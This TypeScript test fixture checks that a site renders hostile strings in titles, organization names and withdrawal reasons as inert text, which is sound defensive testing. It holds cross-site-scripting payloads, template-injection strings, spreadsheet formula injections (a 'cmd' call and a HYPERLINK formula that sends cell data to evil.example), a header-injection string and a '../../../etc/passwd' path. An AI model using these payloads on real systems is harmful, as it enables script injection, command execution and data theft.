// Payloads of markup, templates and formulas in titles, names and quotations, all inert text.
import { fields, file, type Payload, run, showing, titled } from './payload.ts';

/** Titles that the page and every list must show letter for letter. */
const titles: Readonly<Record<string, string>> = {
  script: `</title></script><script>${run}</script>`,
  img: `"><img src=x onerror=${run}>`,
  'single-quote': `'><svg onload=${run}>`,
  attribute: `" autofocus onfocus="${run}`,
  comment: '<!-- <script> --!> --> <!--',
  'cdata-end': ']]> ]]&gt; <![CDATA[',
  entities: '&lt;b&gt; &amp;amp; &#60;script&#62; &quot; &nbsp;',
  mustache: '{{constructor.constructor("return 1")()}}',
  dollar: `\${process.exit(1)} $& $1 $$ $\``,
  astro: '{Astro.props} <slot /> <Fragment set:html="x" />',
  erb: '<%= 1 + 1 %> {% raw %} #{x} @{x}',
  markdown: `[x](javascript:${run}) ![x](x) **x** \`x\` [@gazette, p]`,
  json: '"},{"@type":"Person","name":"x"}]}',
  'json-end': `"}</script><script>${run}</script>`,
  'formula-cmd': `=cmd|'/c calc'!A1`,
  'formula-link': '=HYPERLINK("https://evil.example/?"&A1,"x")',
  'formula-plus': '+1+1',
  'formula-minus': '-2+3+cmd|x',
  'formula-at': '@SUM(1+1)*cmd|x',
  'formula-comma': 'x,=1+1;"=1+1"',
  'formula-full-width': '＝1+4',
  prototype: '__proto__',
  constructor: 'constructor',
  'to-string': 'toString',
  percent: '%00%0d%0aSet-Cookie: x=1 %s %n %2e%2e%2f',
  path: '../../../etc/passwd',
  backslashes: '\\u003cscript\\u003e \\x3c \\',
  undefined: 'undefined',
  spaces: 'a \u00a0\u3000 b',
};

/** An organization, because organizations are search filters and their names are indexed. */
const organization = (name: string, words: string): Payload => ({
  ...file(
    name,
    `organizations/${name}.md`,
    `---\ntitle: ${JSON.stringify(`${name} ${words}`)}\nnames:\n  ko: { text: ${JSON.stringify(`가 ${words}`)}, status: ours }\n  zh: { text: ${JSON.stringify(`中 ${words}`)}, status: ours }\nsummary: ${JSON.stringify(`Summary ${words}`)}\nacronym: ${JSON.stringify(words.slice(0, 20))}\naliases: [${JSON.stringify(`${name} alias ${words}`)}]\ntype: company\nside: other\nstands: { asOf: 2030-06-01, text: ${JSON.stringify(words)} }\nchanges: [{ on: 2030-06-01, note: ${JSON.stringify(words)} }]\nsources:\n  - source: gazette\n    locator: ${JSON.stringify(words)}\n    quote: ${JSON.stringify(words)}\n    supports: [summary, stands]\n---\n`,
  ),
  heading: `${name} ${words}`,
  shows: `Summary ${words}`,
});

/** A topic withdrawn with this reason. */
const withdrawn = (name: string, words: string): Payload => ({
  ...fields(
    name,
    `withdrawn: { on: 2030-06-01, reason: ${JSON.stringify(words)} }\nchanges: [{ on: 2030-06-01, note: ${JSON.stringify(words)} }]`,
  ),
  heading: `Withdrawn: Payload ${name}`,
  shows: words,
});

export const words: readonly Payload[] = [
  ...Object.entries(titles).map(([name, title]) => titled(`title-${name}`, title)),
  organization('fields-script', `</script><script>${run}</script>`),
  organization('fields-quotes', `"'><img src=x onerror=${run}>`),
  organization('fields-comment', '--><!-- ]]> <![CDATA['),
  organization('fields-templates', `{{7*7}} \${7*7} <%= 7 %>`),
  organization('fields-formula', `=1+1|cmd`),
  withdrawn('withdrawn-script', `</script><script>${run}</script>`),
  withdrawn('withdrawn-markdown', `[x](javascript:${run}) **x** <b>x</b>`),
  showing(
    `<b>${run}</b>`,
    fields(
      'disagreement-markup',
      `disagreements:\n  - question: <b>${run}</b>\n    values:\n      - { value: "<i>x</i>", citations: [{ source: gazette, locator: "<u>" }] }\n      - { value: "'\\"", citations: [{ source: daily, locator: "</li></ul>" }] }\n    used: <i>x</i>\n    reason: "-->"`,
    ),
  ),
  titled('title-two-lines', 'a\nb', '2:8 [schema]'),
  titled('title-formula-tab', '\t=1+2'),
  titled('title-formula-return', '\r=1+3'),
  titled('title-carriage-return', 'a\r=1+1', '2:8 [schema]'),
  fields('alias-two-lines', 'aliases: ["a\\nb"]', '4:11 [schema]'),
  titled('title-line-separator', 'a\u2028</script>', '2:8 [clean-text]'),
];
